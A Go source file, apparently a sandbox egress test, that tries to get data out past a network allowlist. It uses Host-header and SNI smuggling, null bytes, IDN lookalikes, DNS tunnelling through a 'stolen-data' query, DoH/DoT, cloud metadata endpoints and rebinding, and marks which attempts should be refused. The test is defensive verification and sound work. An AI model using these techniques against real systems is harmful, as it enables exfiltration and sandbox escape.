package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// patience is how long an attempt may hang. A refusal comes at once: one that takes
// as long as this is reported as a hang.
const patience = 5 * time.Second

// network are the attempts to get data out. The token of an attempt is its name.
func network() []attempt {
	open := inModes(works, works)     // what the project allows
	closed := inModes(works, refused) // what it does not
	never := always(refused)
	n := func(name string, w map[string]want, run func(c *Config, token string) (string, bool)) attempt {
		return attempt{group: "network", name: name, want: w, inner: true, run: func(c *Config) (string, bool) { return run(c, token(name)) }}
	}
	list := []attempt{
		n("http to an allowed name", open, func(_ *Config, t string) (string, bool) { return get("http://" + allowedName + "/" + t) }),
		n("https to an allowed name", open, func(_ *Config, t string) (string, bool) { return get("https://" + allowedName + "/" + t) }),
		n("https to a subdomain that a wildcard allows", open, func(_ *Config, t string) (string,
			bool,
		) {
			return get("https://" + wildName + "/" + t)
		}),
		n("a server that speaks first, at a port that a rule names", open, func(_ *Config, t string) (string,
			bool,
		) {
			return greet(sshName+":2222", t)
		}),
		n("an allowed name in capitals with the dot of the root", open, func(_ *Config, t string) (string,
			bool,
		) {
			return get("https://ALLOWED.Test./" + t)
		}),
		n("http to a name that is not allowed", closed, func(_ *Config, t string) (string,
			bool,
		) {
			return get("http://" + deniedName + "/" + t)
		}),
		n("https to a name that is not allowed", closed, func(_ *Config, t string) (string,
			bool,
		) {
			return get("https://" + deniedName + "/" + t)
		}),
		n("an allowed name at a port that is not", closed, func(_ *Config, t string) (string,
			bool,
		) {
			return get("https://" + allowedName + ":8443/" + t)
		}),
		n("http to an address", closed, func(c *Config, t string) (string, bool) { return get("http://" + c.Host + "/" + t) }),
		n("https to an address, without a name in it", closed, func(c *Config, t string) (string,
			bool,
		) {
			return get("https://" + c.Host + "/" + t)
		}),
		n("an IPv4 address written as IPv6", closed, func(c *Config, t string) (string, bool) {
			return dialHTTP("tcp", "[::ffff:"+c.Host+"]:80", deniedName, t)
		}),
		n("IPv6", never, func(_ *Config, t string) (string, bool) { return dialHTTP("tcp6", "[2001:db8::1]:80", deniedName, t) }),
		n("a connection to an allowed name with another Host", closed, func(_ *Config, t string) (string, bool) {
			return dialHTTP("tcp", allowedName+":80", deniedName, t)
		}),
		n("a second request on an allowed connection with another Host", closed, secondRequest),
		n("an absolute request target that is not the Host", closed, func(_ *Config, t string) (string, bool) {
			return raw(allowedName+":80", "GET http://"+deniedName+"/"+t+" HTTP/1.1\r\nHost: "+allowedName+"\r\nConnection: close\r\n\r\n", t)
		}),
		n("two Host headers", never, func(_ *Config, t string) (string, bool) {
			return raw(allowedName+":80", "GET /"+t+" HTTP/1.1\r\nHost: "+allowedName+"\r\nHost: "+deniedName+"\r\nConnection: close\r\n\r\n", t)
		}),
		n("CONNECT to an address", never, func(c *Config, t string) (string, bool) {
			return raw(allowedName+":80", "CONNECT "+c.Host+":443 HTTP/1.1\r\nHost: "+c.Host+":443\r\n\r\n", t)
		}),
		n("a null byte in the Host", never, func(_ *Config, t string) (string, bool) {
			return raw(allowedName+":80", "GET /"+t+" HTTP/1.1\r\nHost: "+deniedName+"\x00."+allowedName+"\r\nConnection: close\r\n\r\n", t)
		}),
		n("TLS to an allowed name that names another server", closed, func(_ *Config, t string) (string,
			bool,
		) {
			return tlsTo(allowedName+":443", deniedName, t)
		}),
		n("TLS to an address that names a server that is not allowed", closed, func(c *Config, t string) (string,
			bool,
		) {
			return tlsTo(c.Host+":443", deniedName, t)
		}),
		n("TLS with a null byte in the server's name", closed, func(_ *Config, t string) (string, bool) {
			return tlsTo(allowedName+":443", deniedName+"\x00."+allowedName, t)
		}),
		n("TLS at a port that a rule names", open, func(_ *Config, t string) (string, bool) { return get("https://" + portName + ":8443/" + t) }),
		n("TLS at a port that a rule names, with another server's name", closed, func(_ *Config, t string) (string, bool) {
			return tlsTo(portName+":8443", deniedName, t)
		}),
		n("the same by a client that waits before it speaks", closed, func(_ *Config, t string) (string, bool) {
			return lateTLS(portName+":8443", deniedName, t)
		}),
		n("an HTTP request that begins like SSH", closed, func(_ *Config, t string) (string, bool) {
			return raw(allowedName+":80",
				"SSH-2.0- /"+t+" HTTP/1.1\r\nHost: "+deniedName+"\r\n\r\nGET /"+t+" HTTP/1.1\r\nHost: "+deniedName+"\r\nConnection: close\r\n\r\n", t)
		}),
		n("a connection to a port that no rule names", closed, func(_ *Config, _ string) (string, bool) {
			c, err := dial("tcp", allowedName+":2223")
			if err != nil {
				return short(err), false
			}
			return "connected", c.Close() == nil
		}),
		n("a name that only looks allowed (IDN)", closed, func(_ *Config, t string) (string,
			bool,
		) {
			return get("https://xn--llowed-8nf.test/" + t)
		}),
		n("a name that ends like an allowed one", closed, func(_ *Config, t string) (string,
			bool,
		) {
			return get("https://notallowed.test/" + t)
		}),
		n("the domain of a wildcard itself", closed, func(_ *Config, t string) (string, bool) { return get("https://wild.test/" + t) }),
		n("data in the name of a DNS query", closed, func(_ *Config, t string) (string, bool) { return lookup("udp", "", t) }),
		n("DNS over UDP to a server of one's own", closed, func(c *Config, t string) (string, bool) { return lookup("udp", c.Host+":53", t) }),
		n("DNS over TCP to a server of one's own", closed, func(c *Config, t string) (string, bool) { return lookup("tcp", c.Host+":53", t) }),
		n("a null byte in the name of a DNS query", closed, nullQuery),
		n("DNS over TLS", closed, func(c *Config, t string) (string, bool) { return tlsTo(c.Host+":853", "dns.test", t) }),
		n("DNS over HTTPS", closed, func(_ *Config, t string) (string, bool) { return get("https://dns.test/dns-query?dns=" + t) }),
		n("UDP to the port of QUIC", closed, func(c *Config, t string) (string, bool) { return datagram(c.Host+":443", t) }),
		n("UDP to any port", closed, func(c *Config, t string) (string, bool) { return datagram(c.Host+":9999", t) }),
		n("UDP to an allowed name", inModes(works, refused), func(_ *Config, t string) (string,
			bool,
		) {
			return datagram(allowedName+":9999", t)
		}),
		n("TCP to any port", closed, func(c *Config, t string) (string, bool) { return greet(c.Host+":2223", t) }),
		n("the metadata service of clouds", never, func(_ *Config, t string) (string, bool) {
			return dialHTTP("tcp", "169.254.169.254:80",
				"metadata", t)
		}),
		n("the metadata service of AWS containers", never, func(_ *Config, t string) (string, bool) {
			return dialHTTP("tcp",
				"169.254.170.2:80", "metadata", t)
		}),
		n("the metadata service of Alibaba", never, func(_ *Config, t string) (string, bool) {
			return dialHTTP("tcp",
				"100.100.100.200:80", "metadata", t)
		}),
		n("an allowed name whose address is the metadata service (rebinding)", never, func(_ *Config, t string) (string,
			bool,
		) {
			return get("http://" + rebindName + "/" + t)
		}),
		n("an allowed name whose address is loopback (rebinding)", inModes(refused, refused), func(_ *Config, t string) (string,
			bool,
		) {
			return get("http://" + loopName + "/" + t)
		}),
		n("SCTP", never, func(c *Config, _ string) (string, bool) { return socketTo(c.Host, syscall.SOCK_STREAM, 132) }),
		n("ICMP", closed, func(c *Config, _ string) (string, bool) { return ping(c.Host) }),
	}
	return append(list, attempt{
		group: "network", name: "a connection from outside to a port of the agent", want: always(refused),
		run: listenForOutside,
	})
}

// token is an attempt's name as part of a path, a label or a payload.
func token(name string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
			return r
		}
		return -1
	}, strings.ToLower(name))
}

func short(err error) string {
	if err == nil {
		return ""
	}
	s := err.Error()
	if i := strings.LastIndex(s, ": "); i >= 0 && len(s) > 90 {
		s = s[i+2:]
	}
	if os.IsTimeout(err) || strings.Contains(err.Error(), "deadline exceeded") {
		return "hangs: " + s
	}
	return s
}

// get fetches; the server answers with the path it was asked for.
func get(url string) (string, bool) {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return short(err), false
	}
	// The servers outside have an unknown certificate.
	c := http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, DisableKeepAlives: true}}
	res, err := c.Do(req)
	if err != nil {
		return short(err), false
	}
	defer res.Body.Close()
	body, err := io.ReadAll(io.LimitReader(res.Body, 1<<10))
	if err != nil {
		return short(err), false
	}
	return fmt.Sprintf("%d %s", res.StatusCode, strings.TrimSpace(string(body))), strings.HasPrefix(string(body), "pong ")
}

func dial(network, addr string) (net.Conn, error) {
	c, err := (&net.Dialer{Timeout: patience}).DialContext(context.Background(), network, addr)
	if err == nil {
		err = c.SetDeadline(time.Now().Add(patience))
	}
	return c, err
}

// raw writes a request as it is.
func raw(addr, request, token string) (string, bool) {
	c, err := dial("tcp", addr)
	if err != nil {
		return short(err), false
	}
	defer c.Close()
	if _, err := io.WriteString(c, request); err != nil {
		return short(err), false
	}
	b, err := io.ReadAll(io.LimitReader(c, 4<<10))
	if len(b) == 0 {
		return "no answer " + short(err), false
	}
	first, _, _ := strings.Cut(string(b), "\r\n")
	return first, strings.Contains(string(b), "pong /"+token) || strings.HasPrefix(request, "CONNECT") && strings.Contains(first, " 200")
}

func dialHTTP(network, addr, host, token string) (string, bool) {
	c, err := dial(network, addr)
	if err != nil {
		return short(err), false
	}
	defer c.Close()
	fmt.Fprintf(c, "GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", token, host)
	b, err := io.ReadAll(io.LimitReader(c, 4<<10))
	if len(b) == 0 {
		return "no answer " + short(err), false
	}
	first, _, _ := strings.Cut(string(b), "\r\n")
	return first, strings.Contains(string(b), "pong /"+token)
}

func secondRequest(_ *Config, token string) (string, bool) {
	c, err := dial("tcp", allowedName+":80")
	if err != nil {
		return short(err), false
	}
	defer c.Close()
	r := bufio.NewReader(c)
	fmt.Fprintf(c, "GET /first HTTP/1.1\r\nHost: %s\r\n\r\n", allowedName)
	res, err := http.ReadResponse(r, nil)
	if err != nil {
		return "the first request: " + short(err), false
	}
	if _, err := io.Copy(io.Discard, res.Body); err != nil {
		return "the first request: " + short(err), false
	}
	res.Body.Close()
	fmt.Fprintf(c, "GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", token, deniedName)
	b, err := io.ReadAll(io.LimitReader(r, 4<<10))
	if len(b) == 0 {
		return "no answer " + short(err), false
	}
	first, _, _ := strings.Cut(string(b), "\r\n")
	return first, strings.Contains(string(b), "pong /"+token)
}

func tlsTo(addr, name, token string) (string, bool) {
	return tlsAfter(0, addr, name, token)
}

// lateTLS is a client that lets the server speak first for as long as a proxy may wait.
func lateTLS(addr, name, token string) (string, bool) {
	const wait = 300 * time.Millisecond
	return tlsAfter(wait, addr, name, token)
}

func tlsAfter(wait time.Duration, addr, name, token string) (string, bool) {
	c, err := dial("tcp", addr)
	if err != nil {
		return short(err), false
	}
	defer c.Close()
	time.Sleep(wait)
	t := tls.Client(c, &tls.Config{ServerName: name, InsecureSkipVerify: true}) // the servers' certificate is self-signed
	if err := t.HandshakeContext(context.Background()); err != nil {
		return short(err), false
	}
	fmt.Fprintf(t, "GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", token, deniedName)
	b, err := io.ReadAll(io.LimitReader(t, 4<<10))
	return fmt.Sprintf("a TLS connection, %d bytes %s", len(b), short(err)), true
}

// greet waits for the server's first word and answers with the token.
func greet(addr, token string) (string, bool) {
	c, err := dial("tcp", addr)
	if err != nil {
		return short(err), false
	}
	defer c.Close()
	line, err := bufio.NewReader(c).ReadString('\n')
	if err != nil {
		return short(err), false
	}
	_, _ = io.WriteString(c, token+"\n")
	return strings.TrimSpace(line), strings.HasPrefix(line, "hello")
}

// lookup asks for a name that carries data; server "" is the system's.
func lookup(network, server, token string) (string, bool) {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, systems string) (net.Conn, error) {
		to := server
		if to == "" {
			to = systems
		}
		return (&net.Dialer{}).DialContext(ctx, network, to)
	}}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	ips, err := r.LookupHost(ctx, "stolen-data."+label(token)+".tunnel.test.")
	if err != nil {
		return short(err), false
	}
	return strings.Join(ips, " "), true
}

// label is a token that fits into a DNS name.
func label(token string) string { return token[:min(len(token), 60)] }

func nullQuery(c *Config, token string) (string, bool) {
	q := dnsmessage.Message{
		Header: dnsmessage.Header{ID: 1, RecursionDesired: true},
		Questions: []dnsmessage.Question{{
			Name: dnsmessage.MustNewName(label(token) + "\x00." + allowedName + "."),
			Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET,
		}},
	}
	b, err := q.Pack()
	if err != nil {
		return short(err), false
	}
	conn, err := dial("udp", c.Host+":53")
	if err != nil {
		return short(err), false
	}
	defer conn.Close()
	if _, err := conn.Write(b); err != nil {
		return short(err), false
	}
	buf := make([]byte, 4<<10)
	k, err := conn.Read(buf)
	if err != nil {
		return short(err), false
	}
	var a dnsmessage.Message
	if err := a.Unpack(buf[:k]); err != nil {
		return short(err), false
	}
	return a.RCode.String(), len(a.Answers) > 0
}

func datagram(addr, token string) (string, bool) {
	c, err := dial("udp", addr)
	if err != nil {
		return short(err), false
	}
	defer c.Close()
	if _, err := io.WriteString(c, token); err != nil {
		return short(err), false
	}
	b := make([]byte, 1<<10)
	n, err := c.Read(b)
	if err != nil {
		return short(err), false
	}
	return string(b[:n]), strings.HasPrefix(string(b[:n]), "pong ")
}

func socketTo(host string, kind, protocol int) (string, bool) {
	fd, err := syscall.Socket(syscall.AF_INET, kind, protocol)
	if err != nil {
		return short(err), false
	}
	defer syscall.Close(fd)
	var a syscall.SockaddrInet4
	copy(a.Addr[:], net.ParseIP(host).To4())
	a.Port = 9999
	err = syscall.Connect(fd, &a)
	return short(err), err == nil
}

// listenForOutside gives the outside a port to knock at; it does so all the time.
func listenForOutside(*Config) (string, bool) {
	ln, err := (&net.ListenConfig{}).Listen(context.Background(), "tcp", fmt.Sprintf(":%d", knockPort))
	if err != nil {
		return short(err), true
	}
	defer ln.Close()
	tl, ok := ln.(*net.TCPListener)
	if !ok || tl.SetDeadline(time.Now().Add(patience)) != nil {
		return "no deadline", true
	}
	c, err := ln.Accept()
	if err != nil {
		return "no connection", false
	}
	defer c.Close()
	return "a connection from " + c.RemoteAddr().String(), true
}

// knockPort is where the outside tries to get in.
const knockPort = 7777
